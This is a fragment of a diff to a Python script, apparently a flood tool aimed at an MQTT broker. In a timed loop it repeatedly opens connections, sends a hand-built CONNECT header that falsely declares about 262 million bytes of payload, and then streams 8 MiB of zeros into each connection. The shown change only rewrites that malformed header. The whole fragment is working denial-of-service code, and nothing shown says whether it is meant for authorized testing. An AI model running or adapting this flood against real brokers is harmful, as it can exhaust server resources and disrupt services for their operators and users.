@@ -65,7 +65,7 @@ end = time.time() + seconds
 while time.time() < end:
     c = s()
     try:
-        c.sendall(packet(0x10, b"")[:1] + bytes([0xff, 0xff, 0x9f, 0x7d]))
+        c.sendall(bytes([0x10, 0xff, 0xff, 0x9f, 0x7d]))  # CONNECT declaring 262,652,031 bytes
         c.sendall(bytes(1 << 20) * 8)
     except OSError: pass
     c.close()"
